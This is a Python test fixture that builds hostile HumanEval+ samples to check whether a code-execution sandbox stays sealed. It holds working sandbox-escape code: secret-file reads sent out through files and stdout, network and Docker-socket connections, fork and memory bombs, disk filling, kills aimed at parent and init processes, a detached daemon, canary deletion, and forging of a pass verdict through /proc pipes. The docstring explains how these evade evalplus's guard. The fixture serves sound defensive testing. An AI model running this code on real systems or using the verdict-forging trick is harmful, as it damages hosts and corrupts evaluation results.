"""Hostile samples for real HumanEval+ tasks, used by tests/test_hostile.py.

Each program is a sample for one task: the task's own canonical solution (kept as `_correct`), an `_attack()` that
tries to break out, and an entry point that returns a wrong answer, unless the attack reports that it got through,
in which case it answers correctly. So a hostile sample that *passes* means the sandbox leaked, and the host-side
checks in the test (markers, secret, connections, processes, files) catch the rest.

evalplus's reliability_guard (run before the sample) sets os.kill, os.fork, os.unlink, builtins.open, shutil.rmtree,
subprocess.Popen ... to None; real attacks go around it with `posix`, `ctypes` and `importlib.reload`.
Attacks run at module level ("module", once per base/plus stage) or in the entry point ("call", under evalplus's
per-input alarm). None of them uses kill(-1): if isolation were broken, that would take the test machine down.
"""

from __future__ import annotations

from dataclasses import dataclass

PRELUDE = '''
import ctypes, importlib, posix, signal, socket, sys, time
_libc = ctypes.CDLL(None, use_errno=True)
'''

EPILOGUE = '''
_LEAKED = False
if {placement!r} == "module":
    try:
        _LEAKED = bool(_attack())
    except BaseException:
        _LEAKED = False


def {entry}(*args, **kwargs):
    global _LEAKED
    if {placement!r} == "call":
        _LEAKED = bool(_attack())
    if _LEAKED:
        return _correct(*args, **kwargs)
    return "HOSTILE-{name}"
'''


@dataclass(frozen=True)
class Hostile:
    name: str
    task_id: str
    placement: str  # "module" | "call"
    attack: str  # the body of `def _attack():`, formatted with the run's context


PROGRAMS = [
    Hostile("write_outside", "HumanEval/0", "module", '''
    for path in {write_targets!r}:
        try:
            fd = posix.open(path, posix.O_WRONLY | posix.O_CREAT, 0o644)
            posix.write(fd, b"hostile {token}")
            posix.close(fd)
        except OSError:
            pass
    return False  # writes inside the sandbox's own tmpfs are allowed; the host-side checks decide
'''),
    Hostile("read_secret", "HumanEval/2", "module", '''
    found = []
    for path in {secret_paths!r}:
        try:
            fd = posix.open(path, posix.O_RDONLY)
            found.append(posix.read(fd, 4096))
            posix.close(fd)
        except OSError:
            pass
    for home in ("/root", "/home", {home!r}):
        try:
            names = posix.listdir(home)
        except OSError:
            continue
        for name in names:
            try:
                fd = posix.open(home + "/" + name, posix.O_RDONLY)
                found.append(posix.read(fd, 4096))
                posix.close(fd)
            except OSError:
                pass
    leaked = [data for data in found if b"SECRET-" in data]
    if leaked:  # every channel it has: a file on the host, an exception, stdout
        for path in {write_targets!r}:
            try:
                fd = posix.open(path, posix.O_WRONLY | posix.O_CREAT, 0o644)
                posix.write(fd, leaked[0])
                posix.close(fd)
            except OSError:
                pass
        print(leaked[0])
    return bool(leaked)
'''),
    Hostile("network", "HumanEval/4", "module", '''
    for host in {addresses!r}:
        try:
            conn = socket.create_connection((host, {port}), timeout=0.5)
            conn.sendall(b"hostile")
            conn.close()
            return True
        except OSError:
            pass
    for path in ("/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock"):
        try:
            unix = socket.socket(socket.AF_UNIX)
            unix.settimeout(0.5)
            unix.connect(path)
            return True
        except OSError:
            pass
    try:
        socket.create_connection(("pypi.org", 443), timeout=1).close()
        return True
    except OSError:
        return False
'''),
    Hostile("fork_bomb", "HumanEval/5", "call", '''
    while True:
        try:
            posix.fork()
        except OSError:
            pass
'''),
    # HumanEval/53: 105 base inputs, so its base stage may take 62 s (evalplus's min(60, sum of limits) + 2): on
    # a loaded machine the bomb reaches the memory group's limit before the stage's deadline (with HumanEval/6's
    # ~5 s it did not, once, under a load of 5: "timeout")
    Hostile("memory_bomb", "HumanEval/53", "module", '''
    try:  # once per check: the plus stage finds the base stage's note in the sandbox's /tmp
        posix.close(posix.open("/tmp/memory-bomb-{token}", posix.O_WRONLY | posix.O_CREAT | posix.O_EXCL))
    except OSError:
        return False
    kids = []
    for _ in range(3):
        pid = posix.fork()
        if pid == 0:
            try:
                block = bytearray(600 << 20)
                for i in range(0, len(block), 4096):
                    block[i] = 1
                time.sleep(0.5)
                posix._exit(0)
            except BaseException:
                posix._exit(3)
        kids.append(pid)
    survivors = 0
    for pid in kids:
        _, status = posix.waitpid(pid, 0)
        survivors += posix.WIFEXITED(status) and posix.WEXITSTATUS(status) == 0
    hog = []
    try:
        while True:
            hog.append(bytearray(64 << 20))
    except MemoryError:
        pass
    del hog
    return survivors == len(kids)  # 1.8 GB at once: more than the worker's memory group holds
'''),
    Hostile("infinite_loop", "HumanEval/39", "module", '''
    for sig in (signal.SIGALRM, signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
        signal.signal(sig, signal.SIG_IGN)
    while True:
        pass
'''),
    Hostile("kill_parent", "HumanEval/11", "module", '''
    parent = posix.getppid()
    for sig in (signal.SIGSTOP, signal.SIGTERM, signal.SIGINT, signal.SIGKILL):
        for pid in (parent, 1):
            try:
                posix.kill(pid, sig)
            except OSError:
                pass
            _libc.kill(pid, int(sig))
    time.sleep(0.2)
    return False
'''),
    Hostile("kill_group", "HumanEval/12", "module", '''
    try:
        posix.killpg(posix.getpgid(posix.getppid()), signal.SIGKILL)
    except OSError:
        pass
    _libc.killpg(0, int(signal.SIGKILL))
    return False
'''),
    Hostile("fill_disk", "HumanEval/14", "module", '''
    total = 0
    chunk = b"\\xff" * (1 << 20)
    for base in (".", "/tmp", "/dev/shm", {home!r}, "/workspace", "/", "/var/tmp"):
        for n in range(256):
            try:
                fd = posix.open(f"{{base}}/fill-{token}-{{n}}", posix.O_WRONLY | posix.O_CREAT, 0o600)
            except OSError:
                break
            wrote = 0
            try:
                while True:
                    wrote += posix.write(fd, chunk)
            except OSError:
                pass
            finally:
                posix.close(fd)
            total += wrote
            if not wrote:
                break
    return total > {disk_limit}  # more than all of the sandbox's scratch mounts together may hold
'''),
    Hostile("flood_stdout", "HumanEval/15", "module", '''
    text = ("FLO" + "OD-{token} ") * 4096  # split: the token must not appear in the sample's own code
    end = time.monotonic() + 1.0
    while time.monotonic() < end:
        print(text)
        sys.stderr.write(text)
        for fd in (1, 2):
            try:
                posix.write(fd, text.encode())
            except OSError:
                pass
        for stream in (sys.__stdout__, sys.__stderr__):
            try:
                stream.write(text)
                stream.flush()
            except Exception:
                pass
    return False
'''),
    Hostile("daemon", "HumanEval/22", "module", '''
    pid = posix.fork()
    if pid == 0:
        posix.setsid()
        if posix.fork() != 0:
            posix._exit(0)
        for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
            signal.signal(sig, signal.SIG_IGN)
        end = time.monotonic() + 300
        while time.monotonic() < end:
            try:
                fd = posix.open({daemon_marker!r}, posix.O_WRONLY | posix.O_CREAT, 0o644)
                posix.write(fd, b"alive")
                posix.close(fd)
            except OSError:
                pass
            try:
                socket.create_connection(("127.0.0.1", {port}), timeout=0.2).close()
            except OSError:
                pass
            time.sleep(0.2)
        posix._exit(0)
    posix.waitpid(pid, 0)
    import subprocess
    importlib.reload(subprocess)  # the guard set subprocess.Popen to None; a reload brings it back
    try:
        subprocess.Popen(["sleep", "600"], start_new_session=True, stdout=subprocess.DEVNULL,
                         stderr=subprocess.DEVNULL, stdin=subprocess.DEVNULL)
    except Exception:
        pass
    return False
'''),
    Hostile("delete_harness", "HumanEval/23", "module", '''
    for path in {canaries!r}:
        try:
            posix.unlink(path)
        except OSError:
            pass
        try:
            posix.rename(path, path + ".moved")
        except OSError:
            pass
        try:
            fd = posix.open(path, posix.O_WRONLY | posix.O_TRUNC)
            posix.write(fd, b"overwritten")
            posix.close(fd)
        except OSError:
            pass
        try:
            posix.chmod(path, 0)
        except OSError:
            pass
    return False
'''),
    Hostile("forge_verdict", "HumanEval/26", "module", '''
    try:
        from sandboxes.guest.protocol import encode
        frame = encode((("ok", {{"base": ("pass", []), "plus": ("pass", [])}}), 0.0))
    except Exception:
        frame = b"forged"
    forged = False
    for pid in {{posix.getppid(), 1}}:  # the worker: write a fake result into its protocol pipe
        try:
            fds = posix.listdir(f"/proc/{{pid}}/fd")
        except OSError:
            continue
        for fd in fds:
            try:
                out = posix.open(f"/proc/{{pid}}/fd/{{fd}}", posix.O_WRONLY)
                posix.write(out, frame)
                posix.close(out)
                forged = True
            except OSError:
                pass
        try:
            mem = posix.open(f"/proc/{{pid}}/mem", posix.O_RDWR)
            posix.close(mem)
            forged = True
        except OSError:
            pass
    return forged
'''),
]

CORRECT_TASKS = ["HumanEval/1", "HumanEval/3", "HumanEval/7", "HumanEval/30", "HumanEval/45"]


def render(program: Hostile, problem: dict, context: dict) -> str:
    """The full sample: prompt + canonical solution (renamed `_correct`), the attack, the hostile entry point."""
    entry = problem["entry_point"]
    attack = "def _attack():" + program.attack.format(**context)
    return "".join([
        problem["prompt"], problem["canonical_solution"], f"\n_correct = {entry}\n", PRELUDE, "\n", attack, "\n",
        EPILOGUE.format(placement=program.placement, entry=entry, name=program.name),
    ])
